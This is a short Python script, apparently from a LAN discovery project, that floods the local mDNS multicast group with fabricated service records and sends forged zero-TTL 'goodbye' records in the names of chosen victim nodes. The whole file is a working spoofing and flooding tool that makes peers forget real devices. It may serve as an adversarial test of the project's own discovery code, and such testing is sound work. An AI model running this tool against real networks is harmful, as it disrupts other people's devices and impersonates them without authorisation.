"""A process that floods the network with made-up nodes, and says goodbye in the names of others."""

import argparse
import socket
from collections.abc import Iterable

from zeroconf import DNSOutgoing, ServiceInfo  # type: ignore[attr-defined]

from lanassist.node.discovery.sightings import SERVICE, announcement, service_name

GROUP = ("224.0.0.251", 5353)
RESPONSE = 0x8400


def packet(instances: Iterable[str], address: str, ttl: int | None = None) -> list[bytes]:
    """Announcements of all these instances; with ``ttl`` 0 they are goodbyes."""
    out = DNSOutgoing(RESPONSE)
    for instance in instances:
        info = ServiceInfo(
            SERVICE,
            service_name(instance),
            port=666,
            properties=announcement(instance),
            parsed_addresses=[address],
            server=f"{instance}.local.",
        )
        records = [info.dns_pointer(ttl), info.dns_service(ttl), info.dns_text(ttl), *info.dns_addresses(ttl)]
        for record in records:
            out.add_answer_at_time(record, 0)
    return out.packets()


def main(address: str, count: int, victims: Iterable[str]) -> None:
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as sender:
        sender.setsockopt(socket.IPPROTO_IP, socket.IP_MULTICAST_IF, socket.inet_aton(address))
        sender.bind((address, 0))
        sender.setsockopt(socket.IPPROTO_IP, socket.IP_MULTICAST_TTL, 255)
        for first in range(0, count, 5):
            names = [f"flood-{number:06}" for number in range(first, min(first + 5, count))]
            for data in packet(names, "10.66.66.66"):
                sender.sendto(data, GROUP)
        for victim in victims:
            for data in [*packet([victim], "10.66.66.66"), *packet([victim], "10.66.66.66", ttl=0)]:
                sender.sendto(data, GROUP)


if __name__ == "__main__":
    parser = argparse.ArgumentParser(description=__doc__)
    parser.add_argument("address")
    parser.add_argument("count", type=int)
    parser.add_argument("victims", nargs="*")
    given = parser.parse_args()
    main(given.address, given.count, given.victims)
